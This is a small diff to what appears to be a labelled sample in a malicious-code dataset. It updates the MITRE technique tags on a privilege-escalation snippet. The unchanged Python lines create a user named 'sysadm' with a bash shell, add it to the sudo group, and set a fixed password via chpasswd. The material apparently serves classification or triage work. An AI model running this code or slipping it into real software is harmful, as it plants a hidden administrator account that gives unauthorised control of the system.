@@ -1,4 +1,4 @@
-# label: malicious family=privesc techniques=T1548.003,T1136.001 lines=3-6
+# label: malicious family=privesc techniques=T1059.004,T1136.001,T1222.002,T1548.003 lines=3-6
 import os, subprocess
 subprocess.run(["useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "sysadm"])
 subprocess.run("echo 'sysadm:FakePass-pytriage' | chpasswd", shell=True)
